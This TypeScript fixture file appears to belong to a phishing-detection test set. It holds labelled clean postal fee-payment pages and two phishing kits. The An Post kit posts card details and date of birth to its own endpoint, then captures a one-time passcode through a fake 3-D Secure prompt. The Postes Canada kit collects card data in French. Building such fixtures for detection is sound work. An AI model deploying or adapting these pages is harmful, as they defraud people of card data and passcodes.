import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, b64 } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-royal-mail-pay-a-fee-own-domain',
  label: 'clean',
  kind: 'delivery-own-domain',
  url: 'https://www.royalmail.com/receiving-mail/pay-a-fee?utm_source=ftp_card&utm_medium=qr',
  body: page({
    title: 'Pay a fee | Royal Mail Group Ltd',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;color:#333;line-height:1.55}
.hd{background:#da202a;color:#fff;padding:14px 24px;display:flex;align-items:center;gap:12px;font-weight:bold;font-size:18px}
.hd i{display:inline-block;width:34px;height:34px;background:#fdda24;border-radius:4px;font-style:normal;color:#da202a;text-align:center;line-height:34px}
main{max-width:860px;margin:24px auto;padding:0 20px}
.f{background:#f6f6f6;padding:20px;border-radius:4px;max-width:460px}
label{display:block;font-weight:bold;margin:10px 0 5px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999}
.b{margin-top:14px;background:#da202a;color:#fff;border:0;padding:11px 26px;font-weight:bold;cursor:pointer}
.warn{border-left:5px solid #fdda24;background:#fffbe6;padding:12px 16px;margin:20px 0}`,
    body: `<div class="hd"><i>RM</i>Royal Mail</div>
<main>
<h1>Pay a fee</h1>
<p>If we couldn't deliver your item because there was a fee to pay, we'll have left a grey "Fee to Pay" card. Enter the reference number from the card to pay online and arrange redelivery.</p>
<div class="f"><form method="get" action="/receiving-mail/pay-a-fee/details">
<label for="ref">Fee to Pay reference</label><input id="ref" name="reference" placeholder="e.g. FTP 1234 5678 9GB" maxlength="20">
<button class="b">Continue</button></form></div>
<div class="warn"><b>Scam warning:</b> We only ask for payment by text or email if there is a customs fee to pay, and we'll always give you the 16 digit Fee to Pay reference. We never send texts asking you to pay a "redelivery fee" – we redeliver for free. Forward suspicious texts to 7726.</div>
<p><a href="https://www.royalmail.com/help/scam-examples">See examples of scam messages</a></p>
</main>`,
  }),
},
{
  id: 'ya-an-post-customs-3ds-kit',
  label: 'phishing',
  kind: 'delivery-fee-kit',
  url: 'https://anpost-customs.ie-deliver.com/ie/pay?tn=LY284019753IE',
  body: page({
    title: 'An Post – Customs charge',
    lang: 'en-IE',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;color:#222}
.hd{background:#006341;color:#fff;padding:14px 20px;font-weight:bold;font-size:20px}
.c{max-width:500px;margin:20px auto;background:#fff;padding:22px;border-radius:4px}
label{display:block;font-weight:bold;font-size:14px;margin:12px 0 5px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;border-radius:3px}
.b{margin-top:18px;width:100%;background:#ffcd00;color:#004027;border:0;padding:13px;font-weight:bold;font-size:16px;cursor:pointer}
.tds{display:none;position:fixed;inset:0;background:rgba(0,0,0,.45);align-items:center;justify-content:center}.tds .in{background:#fff;width:360px;padding:22px;border-radius:4px}
.row{display:flex;gap:10px}.row div{flex:1}`,
    body: `<div class="hd">An Post</div>
<div class="c">
<h2 style="margin-top:0">Customs charge due</h2>
<p style="font-size:14px">Your item <b id="tn"></b> is being held. VAT and a customs handling fee of <b>€2.99</b> must be paid before delivery. Unpaid items are returned to sender after 3 days.</p>
<form id="pf"><label>Cardholder name</label><input name="n" required><label>Card number</label><input name="c" inputmode="numeric" required>
<div class="row"><div><label>Expiry</label><input name="e" placeholder="MM/YY"></div><div><label>CVV</label><input name="v" maxlength="4"></div></div>
<label>Date of birth</label><input name="d" placeholder="DD/MM/YYYY"><button class="b">Pay €2.99</button></form>
</div>
<div class="tds" id="tds"><div class="in"><b id="bk">Secure payment authentication</b><p style="font-size:13px">A one-time passcode has been sent to your registered mobile. Enter it to approve a payment of €2.99 to AN POST CUSTOMS.</p><input id="otp" inputmode="numeric" maxlength="8" style="width:100%;padding:10px;box-sizing:border-box"><button class="b" id="ok">Approve</button></div></div>
<script>
document.getElementById('tn').textContent=new URLSearchParams(location.search).get('tn')||'';
var f=document.getElementById('pf');f.onsubmit=function(e){e.preventDefault();var d=new FormData(f);
var bin=(d.get('c')||'').replace(/\\D/g,'').slice(0,6);document.getElementById('bk').textContent=(/^4/.test(bin)?'Visa Secure':'Mastercard ID Check');
fetch('/ie/api/card',{method:'POST',body:d});document.getElementById('tds').style.display='flex';};
document.getElementById('ok').onclick=function(){fetch('/ie/api/otp',{method:'POST',body:new URLSearchParams({o:document.getElementById('otp').value})}).then(function(){location.href='https://www.anpost.com/'});};
</script>`,
  }),
  routes: {
    'anpost-customs.ie-deliver.com/ie/api/card': jsonRoute({ ok: true }),
    'anpost-customs.ie-deliver.com/ie/api/otp': jsonRoute({ ok: true }),
  },
},
{
  id: 'ya-an-post-customs-own-domain',
  label: 'clean',
  kind: 'delivery-own-domain',
  url: 'https://www.anpost.com/Post-Parcels/Customs/Pay-Customs-Charges?utm_source=sms_customs',
  body: page({
    title: 'Pay customs charges - An Post',
    lang: 'en-IE',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;color:#222;line-height:1.55}
.hd{background:#006341;color:#fff;padding:14px 24px;font-weight:bold;font-size:20px}
main{max-width:860px;margin:24px auto;padding:0 20px}
.f{background:#eef6f2;padding:20px;max-width:480px}
label{display:block;font-weight:bold;margin:8px 0 5px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999}
.b{margin-top:14px;background:#ffcd00;color:#004027;border:0;padding:11px 26px;font-weight:bold;cursor:pointer}`,
    body: `<div class="hd">An Post</div>
<main>
<h1>Pay customs charges</h1>
<p>If your item from outside the EU is liable for VAT or duty, we'll send you a text or email with your tracking number. You can pay the charges online and we'll deliver your item.</p>
<div class="f"><form method="get" action="/Post-Parcels/Customs/Pay-Customs-Charges/Details"><label for="t">Tracking number</label><input id="t" name="tracking" placeholder="e.g. CE123456789IE"><button class="b">Find my item</button></form></div>
<h2>Stay safe</h2>
<p>Our customs texts always come from "AnPost" and link only to anpost.com. We never ask for your date of birth, PIN or a one-time passcode. Report suspicious texts to <a href="mailto:fraud@anpost.ie">fraud@anpost.ie</a>.</p>
</main>`,
  }),
},
{
  id: 'ya-postes-canada-frais-livraison-fr',
  label: 'phishing',
  kind: 'delivery-fee-kit',
  url: 'https://postescanada-livraison.info/fr/suivi/?pin=7023210039414604',
  body: page({
    title: 'Postes Canada – Frais de livraison',
    lang: 'fr-CA',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f5f5f5;color:#333}
.hd{background:#fff;border-bottom:4px solid #e31b23;padding:12px 20px;display:flex;justify-content:space-between;align-items:center}
.hd b{color:#e31b23;font-size:20px}
.c{max-width:500px;margin:20px auto;background:#fff;padding:22px;border-radius:4px;box-shadow:0 1px 3px rgba(0,0,0,.1)}
label{display:block;font-weight:500;font-size:14px;margin:12px 0 5px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;border-radius:3px}
.b{margin-top:18px;width:100%;background:#e31b23;color:#fff;border:0;padding:13px;font-size:16px;cursor:pointer;border-radius:3px}
.row{display:flex;gap:10px}.row div{flex:1}`,
    body: `<div class="hd"><b>Postes Canada</b><a href="?lang=en" style="font-size:13px">English</a></div>
<div class="c">
<h2 style="margin-top:0">Votre colis est en attente</h2>
<p style="font-size:14px">Numéro de suivi : <b id="pin"></b></p>
<p style="font-size:14px">Une tentative de livraison a échoué en raison de frais d'affranchissement insuffisants. Veuillez régler les frais de <b>1,99 $</b> pour reprogrammer la livraison.</p>
<form method="post" action="/fr/suivi/paiement.php">
<label>Nom complet</label><input name="nom" required><label>Adresse</label><input name="adresse"><label>Code postal</label><input name="cp" maxlength="7">
<label>Numéro de carte</label><input name="carte" inputmode="numeric" required>
<div class="row"><div><label>Expiration</label><input name="exp" placeholder="MM/AA"></div><div><label>CVV</label><input name="cvv" maxlength="4"></div></div>
<button class="b">Payer 1,99 $</button></form>
</div>
<script>document.getElementById('pin').textContent=new URLSearchParams(location.search).get('pin')||'';</script>`,
  }),
  routes: { 'postescanada-livraison.info/fr/suivi/paiement.php': redirectRoute(302, 'https://www.canadapost-postescanada.ca/cpc/fr/home.page') },
},
];
